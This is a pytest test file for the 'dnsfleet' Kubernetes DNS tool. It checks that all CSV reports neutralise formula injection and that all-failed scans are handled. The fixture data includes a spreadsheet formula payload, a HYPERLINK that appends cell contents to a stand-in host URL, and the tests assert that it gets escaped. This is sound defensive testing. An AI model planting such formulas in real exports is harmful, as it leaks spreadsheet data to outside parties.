"""Snapshot and output safety (issue 15 items 7-10, 12): CSV formula injection over every column of every
CSV, snapshots where every cluster failed, terminal control characters, the typed snapshot schema and
what a snapshot keeps of the Corefile."""

from __future__ import annotations

import argparse
import csv
import io
from pathlib import Path
from typing import Any

import pytest

from dnsfleet.cli.output import render, summary_frame
from dnsfleet.engine import analyze
from dnsfleet.mitigate import kernel as kernel_plan
from dnsfleet.report import csv_reports
from dnsfleet.snapshot import save
from dnsfleet.textsafe import FORMULA_START, csv_bytes
from tests.builders import cluster, node, pod, snapshot

F = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _formula_snapshot() -> dict[str, Any]:
    """Every string a snapshot can carry into a CSV is a formula, and the scan times are formulas too
    (a pandas 3 ``str`` column, not ``object``)."""
    n = node("+" + "node", kernel="4.15.0-1029-azure", os_image="@os", pool="-pool")
    n["container_runtime"] = "=rt"
    n["kubelet_version"] = "=kubelet"
    n["labels"]["topology.kubernetes.io/zone"] = "=zone"
    p = pod(
        "=pod",
        n["name"],
        "=image:1",
        options=[{"name": "=opt", "value": "=v"}],
        namespace="@ns",
        owner_kind="Deployment",
        owner_name="-web",
    )
    c = cluster(F, nodes=[n], pods=[p], coredns_version="=1.11.1", kube_proxy_mode="=iptables")
    c["server_version"] = "=v1.29"
    c["provider"] = "=aks"
    c["collected_at"] = '=HYPERLINK("x")'
    c["missing"] = ["=nodes"]
    failed = cluster("\tfailed")
    failed.update(status="failed", reason="-timed out", nodes=None, pods=None, dns=None)
    snap = snapshot(c, failed)
    snap["generated_at"] = '=HYPERLINK("http://example.invalid")'
    return snap


def _every_csv(snap: dict[str, Any]) -> dict[str, bytes]:
    a = analyze(snap)
    out = dict(csv_reports(a))
    out["show -o csv / scan -o csv"] = render(summary_frame(a.clusters), "csv").encode()
    out["kernel upgrade plan"] = kernel_plan.upgrade_plan_csv(
        kernel_plan.upgrade_plan(a.nodes, a.dns_service)
    )
    return out


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_column_of_every_csv_is_formula_safe() -> None:
    files = _every_csv(_formula_snapshot())
    assert len(files) == 6
    for name, data in files.items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        header, body = rows[0], rows[1:]
        assert body, name
        assert len({len(r) for r in rows}) == 1, name
        for r in body:
            for col, cell in zip(header, r, strict=True):
                assert _is_number(cell) or not cell.startswith(FORMULA_START), (name, col, cell)
    (row, _) = csv.DictReader(io.StringIO(files["clusters.csv"].decode("utf-8-sig"), newline=""))
    assert row["cluster"] == "'" + F
    # not a time: the snapshot's generated_at is used instead, neutralised (a pandas 3 str column)
    assert row["scanned_at_utc"] == '\'=HYPERLINK("http://example.invalid")'
    assert row["unreadable_resources"] == "'=nodes" and row["coredns_version"] == "'=1.11.1"
    (plan,) = csv.DictReader(io.StringIO(files["kernel upgrade plan"].decode("utf-8-sig"), newline=""))
    assert plan["node"] == "'+node" and plan["pool"] == "'-pool" and plan["os_image"] == "'@os"
    assert plan["cluster"] == "'" + F


def test_the_one_writer_neutralises_every_dtype() -> None:
    import pandas as pd

    df = pd.DataFrame(
        {
            "obj": pd.Series(["=a"], dtype=object),
            "string": pd.Series(["+b"], dtype="string"),
            "str": pd.Series(["@c"], dtype="str"),
            "num": pd.Series([-1.5]),
            "lf": ["\n=d"],
        }
    )
    row = next(csv.DictReader(io.StringIO(csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert row == {"obj": "'=a", "string": "'+b", "str": "'@c", "num": "-1.5", "lf": "'\n=d"}


# -- a snapshot where every cluster failed ---------------------------------------------------------------


def _all_failed(tmp_path: Path) -> Path:
    from dnsfleet.collect.cluster import failed_cluster

    snap = snapshot(failed_cluster("a", "timed out after 3 s"), failed_cluster("b", "unauthorized (401)"))
    return save(snap, tmp_path / "failed.json")


def test_all_failed_snapshot_report_and_show_csv_work(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    from dnsfleet.cli import main

    path = _all_failed(tmp_path)
    assert main(["report", "--snapshot", str(path), "--out", str(tmp_path / "r")]) == 0
    clusters = (tmp_path / "r" / "clusters.csv").read_text(encoding="utf-8-sig")
    assert "timed out after 3 s" in clusters and "unauthorized (401)" in clusters
    for name in ("nodes.csv", "workloads.csv", "recommendations.csv"):
        assert len((tmp_path / "r" / name).read_text(encoding="utf-8-sig").splitlines()) == 1
    capsys.readouterr()
    assert main(["show", "--snapshot", str(path), "-o", "csv"]) == 0
    out = capsys.readouterr().out
    assert [line.split(",")[:2] for line in out.splitlines()] == [
        ["cluster", "status"],
        ["a", "failed"],
        ["b", "failed"],
    ]


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_fail_on_with_nothing_assessed_has_its_own_exit_code(
    tmp_path: Path, capsys: pytest.CaptureFixture, fmt: str
) -> None:
    from dnsfleet.cli import main
    from dnsfleet.cli.output import EXIT_NOTHING_ASSESSED

    path = _all_failed(tmp_path)
    assert main(["show", "--snapshot", str(path), "--fail-on", "low", "-o", fmt]) == EXIT_NOTHING_ASSESSED
    err = capsys.readouterr().err
    assert err.strip() == "nothing could be assessed: all 2 cluster(s) failed (a, b)"
    assert EXIT_NOTHING_ASSESSED not in (0, 1, 2)
    assert main(["show", "--snapshot", str(path)]) == 0  # without --fail-on: the table, exit 0


def test_scan_fail_on_with_every_cluster_failing(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """A real scan: one context whose server refuses connections (127.0.0.1:1)."""
    from dnsfleet.cli.output import EXIT_NOTHING_ASSESSED
    from dnsfleet.cli.scan import run_scan

    kc = tmp_path / "kc"
    kc.write_text(
        "apiVersion: v1\nkind: Config\ncurrent-context: gone\n"
        "clusters: [{name: gone, cluster: {server: 'https://127.0.0.1:1', insecure-skip-tls-verify: true}}]\n"
        "users: [{name: u, user: {token: t}}]\n"
        "contexts: [{name: gone, context: {cluster: gone, user: u}}]\n"
    )
    args = argparse.Namespace(
        kubeconfig=str(kc),
        contexts=None,
        all_contexts=True,
        prometheus=None,
        prometheus_token_file=None,
        prometheus_ca_file=None,
        cluster_label="cluster",
        prometheus_time=None,
        metrics_window=3600.0,
        no_scrape=True,
        out=None,
        output="csv",
        fail_on="high",
        timeout=2.0,
        workers=1,
    )
    out, err = io.StringIO(), io.StringIO()
    assert run_scan(args, out, err) == EXIT_NOTHING_ASSESSED
    assert "nothing could be assessed: all 1 cluster(s) failed (gone)" in err.getvalue()
    assert out.getvalue().startswith("cluster,status,level")


# -- the dashboard -------------------------------------------------------------------------------------

APP = str(Path(__file__).resolve().parents[1] / "dashboard" / "app.py")


@pytest.fixture
def clean_app(monkeypatch: pytest.MonkeyPatch) -> Any:
    import streamlit as st

    for k in ("DNSFLEET_ALLOW_WRITES", "DNSFLEET_KUBECONFIG", "KUBECONFIG", "DNSFLEET_SNAPSHOT"):
        monkeypatch.delenv(k, raising=False)
    st.cache_data.clear()
    st.cache_resource.clear()
    yield monkeypatch
    st.cache_data.clear()
    st.cache_resource.clear()


def _upload(name: str, data: bytes) -> Any:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    at.sidebar.radio[0].set_value("snapshot").run()
    at.sidebar.file_uploader[0].set_value((name, data, "application/octet-stream")).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_reports_page_with_every_cluster_failed(clean_app: Any, tmp_path: Path) -> None:
    at = _upload("failed.json", _all_failed(tmp_path).read_bytes())
    at.switch_page("../pages/reports.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert len(at.get("download_button")) == 5  # four CSVs and the snapshot
    shown = at.dataframe[0].value
    assert list(shown["scan_reason"]) == ["timed out after 3 s", "unauthorized (401)"]
